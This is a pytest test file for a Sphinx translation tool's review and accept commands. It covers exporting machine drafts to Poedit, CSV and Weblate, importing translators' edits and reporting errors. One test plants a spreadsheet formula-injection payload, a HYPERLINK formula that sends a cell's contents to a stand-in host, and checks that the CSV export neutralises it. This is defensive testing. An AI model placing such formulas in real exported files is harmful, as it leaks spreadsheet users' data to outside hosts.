"""`sphinx-amts review` and `accept`: what needs a person goes out and comes back."""

from __future__ import annotations

import csv
import io
import os
import re

import polib
import pytest
from kept_book import KeptBook
from translate.storage import po as toolkit_po
from translate.storage import tmx as toolkit_tmx

from sphinx_amts.catalogs.entries import read_human, read_machine

BREW = "Grind the beans finely. Pour the hot water slowly. Wait for four minutes."
BREW_ES = "Muele los granos. Vierte el agua caliente. Espera cuatro minutos."
EDITED = BREW.replace("hot", "boiling")
CLEAN = "Rinse the filter with care."
LINK = "Read :ref:`about beans <beans>` first."
PAGE = f"""
.. _beans:

Coffee
======

{BREW}

{CLEAN}

{LINK}
"""
CATALOG = "locale/es/LC_MESSAGES/coffee.po"
MACHINE = "amts/catalogs/es/coffee.po"
MEMORY = "amts/human/es.jsonl"
ANA = "Ana Pérez <ana@example.org>"


@pytest.fixture(scope="module")
def kept(new_project, tmp_path_factory, amts):
    book = new_project(tmp_path_factory.mktemp("book"))
    book.write("index.rst", "Index\n=====\n\n.. toctree::\n\n   coffee\n")
    book.write("coffee.rst", PAGE)
    book.human("index", {"Index": "Índice"})
    book.human("coffee", {"Coffee": "Café", BREW: BREW_ES})
    book.engine()
    assert sync(amts, book).code == 0
    book.edit("coffee.rst", "hot", "boiling")
    assert sync(amts, book).code == 0
    return KeptBook(book)


@pytest.fixture
def book(kept):
    """A page with an outdated translation, a human one and two drafts."""
    return kept.restored()


def sync(amts, book):
    return amts(book, "sync", book.src, "-l", "es")


def review(amts, book, *options):
    return amts(book, "review", book.src, "-l", "es", *options)


def out(amts, book, tool):
    """Write the files for a tool, and return their path."""
    path = book.root / {"weblate": "lt", "poedit": "lt.po", "csv": "lt.csv"}[tool]
    done = review(amts, book, "--for", tool, "--output", path)
    assert (done.code, done.err, done.sent) == (0, "", [])
    return path


def take(amts, book, *files, by=ANA):
    return review(amts, book, "--take", *files, "--by", by)


def human(book):
    return read_human(book.src / CATALOG)


def snapshot(book):
    return {path: path.read_bytes() for path in book.src.rglob("*") if path.is_file()}


def test_a_file_for_poedit_has_drafts_changes_and_context(book, amts):
    path = out(amts, book, "poedit")
    entries = {entry.msgid: entry for entry in polib.pofile(path)}
    assert list(entries) == [EDITED, CLEAN, LINK]
    assert entries[CLEAN].msgstr == "译Rinse the filter with care."
    edited = entries[EDITED]
    assert edited.msgstr.startswith("Muele los granos. 译Pour the boiling water")
    assert edited.previous_msgid == BREW
    assert "[-hot-]{+boiling+}" in edited.comment
    assert BREW_ES in edited.comment
    assert f"text below: {CLEAN}" in edited.comment
    assert "text above: Coffee" in edited.comment
    assert edited.occurrences == [("../../coffee.rst", "7")]
    assert not any("fuzzy" in entry.flags for entry in entries.values())


def test_messages_come_in_the_order_of_the_table_of_contents(empty_project, amts):
    book = empty_project
    for name, text in {
        "index": ".. toctree::\n\n   zoo\n   part/two\n   apes",
        "zoo": "Seen first.\n\n.. toctree::\n\n   birds",
        "birds": "Seen second.",
        "part/two": "Seen third.\n\n.. toctree::\n\n   ../zoo",
        "apes": "Seen fourth.",
        "aside": ":orphan:\n\nSeen last.",
    }.items():
        book.write(f"{name}.rst", f"{text}\n")
    order = [f"Seen {n}." for n in ("first", "second", "third", "fourth", "last")]
    for tool in ("poedit", "csv"):
        text = out(amts, book, tool).read_text("utf-8-sig")
        places = [text.index(words) for words in order]
        assert places == sorted(places)


def test_nothing_changes_where_nobody_has_edited(book, amts):
    path = out(amts, book, "poedit")
    before = snapshot(book)
    done = take(amts, book, path)
    assert done.code == 0
    assert "3 came back as the draft was" in done.out
    after = {p: d for p, d in snapshot(book).items() if p in before}
    assert after == before
    assert human(book) == {"Coffee": "Café", BREW: BREW_ES}


def test_an_edited_draft_is_known_as_one(book, amts):
    path = out(amts, book, "poedit")
    catalog = polib.pofile(path)
    mine = "译Rinse the filter with much care."
    catalog.find(CLEAN).msgstr = mine
    catalog.save()
    old = (book.src / CATALOG).read_bytes()
    done = take(amts, book, path)
    assert (done.code, done.err) == (0, "")
    assert human(book)[CLEAN] == mine
    new = (book.src / CATALOG).read_bytes()
    body = old[old.index(b'msgid "Coffee"') :].rstrip()
    assert body in new
    assert f"# {ANA}, ".encode() in new
    assert read_machine(book.src / MACHINE)[CLEAN].msgstr.startswith("译Rinse")
    assert book.build().totals["messages"]["edited"] == 1
    assert mine in book.body("coffee")
    assert mine in (book.src / MEMORY).read_text("utf-8")
    again = snapshot(book)
    done = take(amts, book, path)
    assert "1 stood there already" in done.out
    assert snapshot(book) == again


def test_text_of_a_persons_own_is_human(book, amts):
    path = out(amts, book, "poedit")
    catalog = polib.pofile(path)
    catalog.find(CLEAN).msgstr = "Lava bien la pieza de papel."
    catalog.save()
    take(amts, book, path)
    messages = book.build().totals["messages"]
    assert (messages["human"], messages["edited"]) == (3, 0)


def test_a_file_that_was_read_as_a_whole(book, amts):
    path = out(amts, book, "poedit")
    done = review(amts, book, "--take", path, "--approved", "--by", ANA)
    assert done.code == 0
    assert set(human(book)) == {"Coffee", BREW, EDITED, CLEAN, LINK}
    messages = book.build().totals["messages"]
    assert (messages["machine"], messages["outdated"]) == (0, 0)
    assert messages["edited"] == 3


def test_an_edited_file_is_never_written_over(book, amts):
    path = out(amts, book, "poedit")
    catalog = polib.pofile(path)
    catalog.find(CLEAN).msgstr = "Lava el filtro."
    catalog.save()
    before = path.read_bytes()
    done = review(amts, book, "--for", "poedit", "--output", path)
    assert done.code == 1
    assert f"{path}:" in done.err
    assert "--take" in done.err
    assert path.read_bytes() == before


def test_a_sheet_comes_back_from_a_spreadsheet(book, amts):
    path = out(amts, book, "csv")
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    assert [row["source"] for row in rows] == [EDITED, CLEAN, LINK]
    rows[0]["translation"] = "Muele. Vierte el agua hirviendo. Espera."
    rows[1]["approved"] = "x"
    rows[2]["source"] = rows[2]["source"].upper()  # what a spreadsheet does to text
    stream = io.StringIO()
    writer = csv.DictWriter(stream, list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(stream.getvalue(), "utf-8")
    assert take(amts, book, path).code == 0
    taken = human(book)
    assert taken[EDITED] == "Muele. Vierte el agua hirviendo. Espera."
    assert taken[CLEAN] == "译Rinse the filter with care."
    assert LINK not in taken


def test_a_draft_that_is_a_formula_comes_back_as_it_was(book, amts):
    formula = '=HYPERLINK("//x.example/?"&A1)'
    path = book.src / MACHINE
    quoted = formula.replace('"', '\\"')
    text = path.read_text("utf-8").replace("译Rinse the", f"{quoted} Rinse the")
    # as an engine would have written it, and no person
    path.write_text(re.sub(r" check=\w+", "", text), "utf-8")
    sheet = out(amts, book, "csv")
    rows = list(csv.DictReader(io.StringIO(sheet.read_bytes().decode("utf-8-sig"))))
    (row,) = (row for row in rows if row["source"] == CLEAN)
    assert row["draft"] == f"'{formula} Rinse the filter with care."
    row["approved"] = "x"
    with sheet.open("w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.DictWriter(stream, list(row))
        writer.writeheader()
        writer.writerows(rows)
    assert take(amts, book, sheet).code == 0
    assert human(book)[CLEAN] == f"{formula} Rinse the filter with care."


def test_weblate_reads_what_is_written_for_it(book, amts):
    folder = out(amts, book, "weblate")
    assert sorted(p.name for p in folder.rglob("*")) == ["coffee.po", "memory.tmx"]
    store = toolkit_po.pofile.parsefile(str(folder / "coffee.po"))
    units = {unit.source: unit for unit in store.units if not unit.isheader()}
    assert list(units) == [EDITED, CLEAN, LINK]
    assert units[CLEAN].target == "译Rinse the filter with care."
    assert all(unit.istranslated() and not unit.isfuzzy() for unit in units.values())
    with (folder / "memory.tmx").open("rb") as stream:
        memory = toolkit_tmx.tmxfile(stream, "en", "es")
    pairs = {unit.source: unit.target for unit in memory.units}
    assert pairs == {"Index": "Índice", "Coffee": "Café", BREW: BREW_ES}


def test_what_no_memory_can_hold_is_named(book, amts):
    """A form feed came with a text from a word processor."""
    odd = {"Two\fpages.": "Dos páginas.", CLEAN: "Enjuaga\x0bel filtro."}
    for source, text in odd.items():
        with (book.src / CATALOG).open("a", encoding="utf-8") as stream:
            stream.write(f'\nmsgid "{source}"\nmsgstr "{text}"\n')
    lines = (book.src / CATALOG).read_text("utf-8").split("\n")
    ran = review(amts, book, "--for", "weblate", "-o", book.root / "for_weblate")
    assert ran.code == 1
    for source, sign in zip(odd, ("U+000C", "U+000B"), strict=True):
        line = lines.index(f'msgid "{source}"') + 1
        assert f"coffee.po:{line}: not in the memory: holds {sign}" in ran.err
    with (book.root / "for_weblate/memory.tmx").open("rb") as stream:
        memory = toolkit_tmx.tmxfile(stream, "en", "es")
    assert {unit.source for unit in memory.units} == {"Index", "Coffee", BREW}


def test_files_that_are_not_there(book, amts):
    before = snapshot(book)
    review(amts, book, "--take", "none.po").refused("none.po: cannot be read")
    assert snapshot(book) == before


def test_a_pull_request_that_edits_a_machine_catalog(book, amts):
    """By somebody who has never heard of catalogs of people."""
    path = book.src / MACHINE
    mine = "Enjuaga el filtro."
    text = path.read_text("utf-8")
    path.write_text(text.replace("译Rinse the filter with care.", mine), "utf-8")
    built = book.build()
    assert built.sent == []
    assert mine in book.body("coffee")
    assert built.totals["messages"]["edited"] == 1
    done = sync(amts, book)
    assert "1 changed by hand" in done.out
    assert mine in path.read_text("utf-8")
    amts(book, "refresh", book.src, "-l", "es", "-D", "amts_engine=memory")
    done = amts(book, "translate", book.src, "-l", "es")
    assert mine in path.read_text("utf-8")
    assert take(amts, book, path).code == 0
    assert human(book)[CLEAN] == mine
    assert LINK not in human(book)


def test_a_machine_catalog_that_arrives_passes_the_guard(book, amts):
    path = book.src / MACHINE
    text = path.read_text("utf-8")
    good = re.search(r'msgstr "([^"]*about beans[^"]*)"', text)[1]
    path.write_text(text.replace(good, "Lee :ref:`otra <nowhere>`."), "utf-8")
    built = book.build()
    assert "otra" not in book.body("coffee")
    assert "about beans" in book.body("coffee")
    assert "coffee.rst:11: an edited entry of a machine catalog" in built.output


def test_a_catalog_of_another_tool(book, amts):
    path = book.root / "es.po"
    path.write_text(
        'msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n\n'
        f'msgid "{CLEAN}"\nmsgstr "Enjuaga."\n\n'
        'msgid "Coffee"\nmsgstr "Un café"\n\n'
        '#, fuzzy\nmsgid "Index"\nmsgstr "Registro"\n\n'
        'msgid "Gone."\nmsgstr "Ido."\n'
    )
    done = take(amts, book, path)
    assert done.code == 1
    assert human(book)[CLEAN] == "Enjuaga."
    assert human(book)["Coffee"] == "Café"
    (line,) = done.err.splitlines()
    assert f"{path}:7" in line
    assert "'Coffee'" in line
    assert "1 left alone, marked as fuzzy" in done.out
    assert "Ido." in (book.src / MEMORY).read_text("utf-8")


def test_what_cannot_be_read_does_not_stop_the_rest(book, amts):
    good = out(amts, book, "poedit")
    catalog = polib.pofile(good)
    catalog.find(CLEAN).msgstr = "Lava el filtro."
    catalog.save()
    bad = book.root / "bad.po"
    bad.write_text("<<<<<<< ours\n")
    sheet = book.root / "bad.csv"
    sheet.write_text("source,target\n")
    other = book.root / "notes.txt"
    other.write_text("Lava.")
    done = take(amts, book, bad, sheet, other, good)
    assert done.code == 1
    assert [line.split(":")[1].strip() for line in done.err.splitlines()] == [
        str(bad), str(sheet), str(other),
    ]  # fmt: skip
    assert human(book)[CLEAN] == "Lava el filtro."


def test_a_fuzzy_entry_gives_way_and_its_text_is_kept(book, amts):
    """As gettext's tools leave the entry of an edited message."""
    path = book.src / CATALOG
    text = path.read_text("utf-8").replace(BREW, EDITED)
    fuzzy = f'#, fuzzy, python-format\n#| msgid "{BREW}"\nmsgid "{EDITED}"'
    path.write_text(text.replace(f'msgid "{EDITED}"', fuzzy), "utf-8")
    listed = out(amts, book, "poedit")
    catalog = polib.pofile(listed)
    catalog.find(EDITED).msgstr = "Muele. Vierte el agua hirviendo. Espera."
    catalog.save()
    assert take(amts, book, listed).code == 0
    entry = polib.pofile(path).find(EDITED)
    assert entry.msgstr == "Muele. Vierte el agua hirviendo. Espera."
    assert (entry.flags, entry.previous_msgid) == (["python-format"], None)
    assert BREW_ES in (book.src / MEMORY).read_text("utf-8")


def accept(amts, book, *options):
    return amts(book, "accept", book.src, "-l", "es", "--by", ANA, *options)


def test_drafts_are_accepted_by_place_and_by_document(book, amts):
    done = accept(amts, book, "--messages", "coffee.rst:9")
    assert (done.code, done.err) == (0, "")
    assert human(book)[CLEAN] == "译Rinse the filter with care."
    assert LINK not in human(book)
    done = accept(amts, book, "--documents", "coffee.rst")
    assert set(human(book)) == {"Coffee", BREW, CLEAN, LINK, EDITED}
    messages = book.build().totals["messages"]
    assert (messages["edited"], messages["machine"]) == (3, 0)
    text = (book.src / CATALOG).read_text("utf-8")
    assert text.count(f"# {ANA}, ") == 1


def test_everything_at_once_only_where_it_is_said(book, amts):
    done = accept(amts, book)
    done.refused("--all")
    done = accept(amts, book, "--all", "--dry-run")
    assert "would add 3" in done.out
    assert set(human(book)) == {"Coffee", BREW}
    accept(amts, book, "--all")
    assert set(human(book)) == {"Coffee", BREW, CLEAN, LINK, EDITED}
    again = snapshot(book)
    accept(amts, book, "--all")
    assert snapshot(book) == again


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (["--documents", "tea"], "no such document"),
        (["--messages", "Nothing of the kind."], "no message of this text"),
    ],
)
def test_what_is_not_there_cannot_be_accepted(book, amts, options, said):
    accept(amts, book, *options).refused(said)


def test_the_user_of_git_is_credited(book, amts):
    done = amts(
        book, "accept", book.src, "-l", "es", "--all",
        GIT_CONFIG_COUNT="2",
        GIT_CONFIG_KEY_0="user.name", GIT_CONFIG_VALUE_0="Ana Pérez",
        GIT_CONFIG_KEY_1="user.email", GIT_CONFIG_VALUE_1="ana@example.org",
        SOURCE_DATE_EPOCH="1700000000",
    )  # fmt: skip
    assert done.code == 0
    text = (book.src / CATALOG).read_text("utf-8")
    assert f"# {ANA}, 2023.\n" in text
    assert f'"Last-Translator: {ANA}\\n"\n' in text
    assert '"PO-Revision-Date: 2023-11-14 22:13+0000\\n"\n' in text


@pytest.mark.parametrize(
    "arguments", [("review", "--for", "csv", "-o", "lt.csv"), ("accept", "--all")]
)
def test_a_damaged_catalog_is_no_lack_of_work(book, amts, arguments, monkeypatch):
    monkeypatch.chdir(book.root)
    path = book.src / CATALOG
    path.write_text(path.read_text("utf-8") + "<<<<<<< ours\n", "utf-8")
    before = path.read_bytes()
    command, *options = arguments
    done = amts(book, command, book.src, "-l", "es", *options)
    (line,) = done.err.splitlines()
    assert (done.code, f"{path}:" in line) == (1, True)
    assert path.read_bytes() == before


def test_a_read_only_catalog(book, amts):
    path = book.src / CATALOG
    path.chmod(0o444)
    before = path.read_bytes()
    done = accept(amts, book, "--all")
    assert (done.code, os.fspath(path) in done.err) == (2, True)
    assert path.read_bytes() == before


def sheet_rows(path):
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"))))


def write_rows(path, rows):
    stream = io.StringIO()
    writer = csv.DictWriter(stream, rows[0].keys())
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(stream.getvalue(), "utf-8-sig", newline="")


def test_what_is_taken_is_named_with_what_readers_lose(book, amts):
    path = out(amts, book, "csv")
    rows = sheet_rows(path)
    for row in rows:
        if row["source"] == LINK:
            row["translation"] = "Lee primero sobre granos."
        if row["source"] == CLEAN:
            row["translation"] = "Enjuaga el filtro."
    write_rows(path, rows)
    done = take(amts, book, path)
    assert done.code == 0
    assert human(book)[LINK] == "Lee primero sobre granos."
    line = (book.src / CATALOG).read_text("utf-8").split("\n").index(f'msgid "{LINK}"')
    head, *losses = done.err.splitlines()
    assert head.startswith("sphinx-amts: es: 1 loss in what was taken")
    assert losses == [
        f"  {book.src / CATALOG}:{line + 1}: reference: lost reference 'beans'"
    ]


def test_two_texts_for_one_message_are_named(book, amts):
    path = out(amts, book, "csv")
    rows = sheet_rows(path)
    (one,) = (row for row in rows if row["source"] == CLEAN)
    one["translation"] = "Enjuaga el filtro."
    write_rows(path, [*rows, {**one, "translation": "Aclara el filtro."}])
    done = take(amts, book, path)
    assert done.code == 1
    assert human(book)[CLEAN] == "Enjuaga el filtro."
    assert f"{path}:{len(rows) + 2}: another text for {CLEAN!r}" in done.err
    assert "left out: 'Aclara el filtro.'" in done.err


@pytest.mark.parametrize("how", ["row", "cells", "po"])
def test_text_of_a_person_that_did_not_come_back_is_named(book, amts, how):
    path = out(amts, book, "poedit" if how == "po" else "csv")
    if how == "po":
        catalog = polib.pofile(path)
        catalog.find(EDITED).msgstr = ""
        catalog.save()
    else:
        rows = sheet_rows(path)
        (one,) = (row for row in rows if row["source"] == EDITED)
        if how == "row":
            rows.remove(one)
        else:
            one |= {"earlier translation": "", "draft": ""}
        write_rows(path, rows)
    done = take(amts, book, path)
    assert done.code == 1
    head, line = done.err.splitlines()
    assert "1 text of people not in what came back" in head
    assert BREW_ES[:60] in line
    assert ("coffee.rst:7: " if how == "row" else f"{path}:") in line
    assert BREW_ES in (book.src / MEMORY).read_text("utf-8")


def test_a_translation_of_nothing_is_refused(book, amts):
    path = out(amts, book, "csv")
    rows = sheet_rows(path)
    stray = dict.fromkeys(rows[0], "") | {"translation": "De nada."}
    write_rows(path, [*rows, stray])
    done = take(amts, book, path)
    assert done.code == 2
    assert f"{path}:{len(rows) + 2}: a translation of nothing" in done.err
